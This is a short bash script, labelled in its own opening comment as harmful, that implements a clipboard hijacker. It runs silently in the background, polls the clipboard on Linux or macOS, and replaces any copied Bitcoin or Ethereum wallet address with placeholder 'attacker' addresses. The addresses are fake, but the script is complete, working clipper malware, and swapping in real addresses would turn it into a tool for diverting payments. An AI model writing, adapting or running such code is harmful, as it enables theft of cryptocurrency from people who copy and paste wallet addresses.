# Harmful: background clipboard hijacker that swaps copied BTC/ETH wallet addresses for attacker (fake) addresses, using process substitution and here-strings.
BTC_ME="bc1qFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000"
ETH_ME="0x000000000000000000000000000000000000dEaD"

pick_clip() {
  if command -v xclip >/dev/null; then
    GET=(xclip -o -selection clipboard); PUT=(xclip -i -selection clipboard)
  elif command -v wl-paste >/dev/null; then
    GET=(wl-paste -n); PUT=(wl-copy)
  elif command -v pbpaste >/dev/null; then
    GET=(pbpaste); PUT=(pbcopy)
  else
    return 1
  fi
}

watch_clip() {
  local last=""
  while sleep 0.5; do
    read -r -d '' cur < <("${GET[@]}" 2>/dev/null)
    [ "$cur" = "$last" ] && continue
    new=$(sed -E \
      -e "s/\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\b/$BTC_ME/g" \
      -e "s/\b0x[a-fA-F0-9]{40}\b/$ETH_ME/g" <<< "$cur")
    if [ "$new" != "$cur" ]; then
      "${PUT[@]}" <<< "$new"
      cur=$new
    fi
    last=$cur
  done
}

pick_clip || exit 0
( watch_clip ) >/dev/null 2>&1 &
disown
